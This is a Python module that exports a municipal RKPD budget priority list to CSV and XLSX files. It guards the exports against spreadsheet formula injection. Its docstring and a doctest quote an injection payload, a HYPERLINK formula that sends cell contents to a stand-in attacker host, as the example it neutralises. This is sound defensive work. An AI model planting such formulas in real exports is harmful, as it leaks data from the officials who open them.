"""The RKPD list as files an official pastes into SIPD: CSV and XLSX, built from the same `RkpdOut` as the
page and the JSON, so the three never disagree.

Both are deterministic: the same list gives the same bytes (no generation time anywhere; the XLSX's
document dates are the adoption time, or a fixed date for a draft), so a file can be checked against
another download or against a published hash. Neither carries personal data: `RkpdOut` has none.

Neither carries a formula either, whatever an agency typed (CSV or formula injection: a program named
`=HYPERLINK("http://evil.example/?x="&A1,"Klik")` would otherwise run in the official's spreadsheet).
Every CSV the platform writes passes its cells through `spreadsheet_cell` (OWASP's advice: a text that
starts with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`, and every text cell is
quoted, so a `;` inside one cannot start a new cell); numbers stay numbers. The
XLSX writes texts with `write_string` only, a string cell that no spreadsheet evaluates, and marks the
same texts "quote prefix" (what Excel records for a typed `'`), so editing such a cell keeps it text.

The one other `;`/`,`-separated file the platform writes, the Pabulib export (`musrenbang pabulib export`,
musrenbang/pabulib.py), is left exactly as it is on purpose: it is not a spreadsheet download but a data
file in a published format, written by an operator's command (never served over HTTP) for pabutools and
`pabulib import --check` to recompute a forum's result. A quote added there would change what those
tools read: project names, and ids (delegate and item ids may start with `-`) that the vote lists refer
to, so the recomputation would no longer match. Whoever opens a `.pb` in a spreadsheet goes through a
text-import dialog; that is where to keep its columns as text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import xlsxwriter

from musrenbang.domain import agency as agencies
from musrenbang.domain import values
from musrenbang.domain.rkpd import SOURCES
from musrenbang.http.rkpd_api import RkpdItemOut, RkpdOut

# The SIPD input columns, in the order an official fills them in. SIPD's form calls both units "Satuan";
# here each says whose it is, so that a spreadsheet, a CSV reader or a pivot table can tell them apart.
COLUMNS = (
    "No", "Kode Sub Kegiatan", "Program", "Kegiatan", "Sub Kegiatan", "Indikator Keluaran", "Target",
    "Satuan Target", "Lokasi", "Volume", "Satuan Volume", "Pagu", "Sumber Dana", "Perangkat Daerah",
    "Prioritas Daerah", "Usulan asal", "Kecamatan", "Asal pagu", "Alasan Renja",
)  # fmt: skip
"""The last three came after the SIPD ones (so those keep their places): the line's kecamatan, where its pagu
came from (residents' proposals, DPRD pokir, the agency's own plan) and, for a Renja line, why it is there:
what `/rkpd/{year}/sumber` and `/rkpd/{year}/pemerataan` count, so a reader can recount them from the file.
A line that names no place is "Seluruh kota" (or kabupaten) in Lokasi and Kecamatan, as those pages say."""
SOURCE_WORDS = {"musrenbang": "Usulan warga (Musrenbang)", "pokir": "Pokok pikiran DPRD",
                "renja": "Rencana kerja perangkat daerah"}  # fmt: skip
"""domain/rkpd.SOURCES as the /sumber page heads its columns (in Indonesian in both languages, as SIPD's)."""
NUMERIC = frozenset({0, 6, 9, 11})
"""No, Target, Volume, Pagu: numbers in both files (a number written as text there stays as it is)."""
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv"
"""Litestar adds `; charset=utf-8` to every `text/` type itself (naming it here too said it twice)."""
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a cell as a formula (OWASP, CSV Injection)."""
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def spreadsheet_cell(value: str | int, *, numeric: bool = False) -> str | int:
    """One cell of a CSV made safe to open in a spreadsheet (OWASP's advice against CSV injection): a text
    that starts with `=`, `+`, `-`, `@`, tab or carriage return gets a leading single quote, so that it is
    shown as text and never evaluated. Numbers are left alone, and so, in a `numeric` column, is a plain
    number written as text ("-2.5"): a negative number stays a number.

        >>> spreadsheet_cell('=HYPERLINK("http://evil.example/?x="&A1,"Klik")')
        '\\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
        >>> spreadsheet_cell(-5), spreadsheet_cell("-2.5", numeric=True), spreadsheet_cell("-2.5")
        (-5, '-2.5', "'-2.5")
    """
    if not isinstance(value, str) or (numeric and _PLAIN_NUMBER.fullmatch(value)):
        return value
    return "'" + value if value.startswith(FORMULA_START) else value


def whole_city(rkpd: RkpdOut, region: str | None = None) -> str:
    """What a line with no place is where: "Seluruh kota", or "Seluruh kabupaten" in a kabupaten — known
    from the city's `region` when given, else from any place the list names (a kelurahan's or desa's code
    is its city's, `values.city_level`)."""
    if region is None:
        region = next((p.kode for i in rkpd.items for p in (*i.locations, *i.kecamatan)), "")
    return f"Seluruh {values.city_level(region)}"


def sources(item: RkpdItemOut) -> list[str]:
    """Where the line's pagu came from, in `rkpd.SOURCES` order, as `rkpd.pagu_by_source` counts it: a pokir
    origin for `pokir`, any other (residents', through the forums) for `musrenbang`, none for `renja`."""
    found = {"pokir" if o.source == "pokir" else "musrenbang" for o in item.origins} if item.origins else {"renja"}
    return [s for s in SOURCES if s in found]


def row(item: RkpdItemOut, whole: str = "Seluruh kota") -> list[str | int]:
    """One line as the columns above: codes and names as text, pagu as an integer, decimals with a dot;
    `whole`: the place of a line that names none (`whole_city`)."""
    return [
        item.no, item.sub_kegiatan_code, item.program, item.kegiatan, item.sub_kegiatan, item.output_indicator,
        item.target, item.target_unit, "; ".join(p.nama for p in item.locations) or whole, item.volume, item.unit,
        item.pagu,
        # Labels stay in Indonesian in both languages: SIPD's own vocabulary.
        agencies.FUNDING_SOURCES.get(item.funding_source, item.funding_source), item.agency_name,
        f"{item.priority_program}. {item.priority_program_title}", " ".join(o.code for o in item.origins),
        "; ".join(k.nama for k in item.kecamatan) or whole, "; ".join(SOURCE_WORDS[s] for s in sources(item)),
        item.renja_reason,
    ]  # fmt: skip


def filename(rkpd: RkpdOut, extension: str) -> str:
    state = f"revisi-{rkpd.revision}" if rkpd.status == "ditetapkan" else "rancangan"
    return f"rkpd-{rkpd.year}-{state}.{extension}"


def to_csv(rkpd: RkpdOut, region: str | None = None) -> bytes:
    """RFC 4180 (comma, CRLF), UTF-8 with a byte-order mark so that spreadsheet programs read it as UTF-8.
    Every text cell is quoted (numbers are not): a spreadsheet set up for an Indonesian locale splits an
    unquoted line at `;` too, and would find `=2+2` inside a cell `x;=2+2` and run it."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    whole = whole_city(rkpd, region)
    for cells in (COLUMNS, *(row(i, whole) for i in rkpd.items)):
        writer.writerow([spreadsheet_cell(v, numeric=c in NUMERIC) for c, v in enumerate(cells)])
    return ("\ufeff" + out.getvalue()).encode()


def _number(text: str) -> int | float | str:
    """A volume or target ("300", "2.5") as a number cell, so a spreadsheet can add them up."""
    try:
        value = Decimal(text)
    except ArithmeticError:
        return text
    return int(value) if value == value.to_integral_value() else float(value)


def to_xlsx(rkpd: RkpdOut, city_name: str, region: str | None = None) -> bytes:
    """XlsxWriter (not openpyxl) writes it: it only writes, has no dependencies, streams rows, and gives
    reproducible files — fixed timestamps inside the zip, and the document dates come from the
    `created` property we set — where openpyxl stamps the save time into every file."""
    moment = rkpd.head.adopted_at if rkpd.head else dt.datetime(rkpd.year - 1, 1, 1, tzinfo=dt.UTC)
    created = moment.astimezone(dt.UTC).replace(tzinfo=None, microsecond=0)
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_numbers": False, "strings_to_urls": False,
                                        "strings_to_formulas": False})  # fmt: skip
    state = f"ditetapkan, revisi {rkpd.revision}" if rkpd.status == "ditetapkan" else "rancangan"
    book.set_properties({"title": f"RKPD {rkpd.year} ({state})", "subject": "Daftar prioritas RKPD",
                         "author": f"Musrenbang {city_name}", "company": f"Pemerintah {city_name}", "created": created,
                         "comments": f"Kepala log: {rkpd.head.hash}" if rkpd.head else ""})  # fmt: skip
    bold = book.add_format({"bold": True, "text_wrap": True, "valign": "top"})
    money = book.add_format({"num_format": "#,##0"})
    quoted = book.add_format({"quote_prefix": True})  # in the file only where a cell uses it
    sheet = book.add_worksheet(f"RKPD {rkpd.year}")

    def text(n: int, c: int, value: str) -> None:
        """A string cell (never a formula); marked quote-prefixed when it looks like one."""
        sheet.write_string(n, c, value, quoted if value.startswith(FORMULA_START) else None)

    sheet.write_row(0, 0, COLUMNS, bold)
    sheet.freeze_panes(1, 0)
    for width, columns in ((5, "A:A"), (22, "B:B"), (30, "C:F"), (10, "G:H"), (28, "I:I"), (10, "J:K"),
                           (16, "L:L"), (14, "M:M"), (30, "N:O"), (20, "P:P"), (24, "Q:R"), (40, "S:S")):  # fmt: skip
        sheet.set_column(columns, width)
    whole = whole_city(rkpd, region)
    for n, item in enumerate(rkpd.items, start=1):
        for c, value in enumerate(row(item, whole)):
            if COLUMNS[c] == "Pagu":
                sheet.write_number(n, c, value, money)
            elif c in (6, 9):  # Target, Volume
                cell = _number(str(value))
                if isinstance(cell, str):
                    text(n, c, cell)
                else:
                    sheet.write_number(n, c, cell)
            elif isinstance(value, int):
                sheet.write_number(n, c, value)
            else:
                text(n, c, value)
    about = book.add_worksheet("Keterangan")
    facts = [("Tahun", str(rkpd.year)), ("Status", state), ("Jumlah baris", str(len(rkpd.items))),
             ("Jumlah pagu", str(rkpd.total_pagu))]  # fmt: skip
    if rkpd.head:
        adopted = rkpd.head.adopted_on or rkpd.head.adopted_at
        facts += [("Ditetapkan", adopted.isoformat()), ("Kepala log (hash)", rkpd.head.hash),
                  ("Aliran / versi", f"{rkpd.head.stream} / {rkpd.head.version}")]  # fmt: skip
    if rkpd.changed_since_adoption:
        facts.append(("Catatan", "Ada perubahan sejak penetapan yang belum ditetapkan ulang"))
    for n, (label, value) in enumerate(facts):
        about.write_string(n, 0, label, bold)
        about.write_string(n, 1, value)
    about.set_column("A:A", 20)
    about.set_column("B:B", 70)
    book.close()
    return buffer.getvalue()
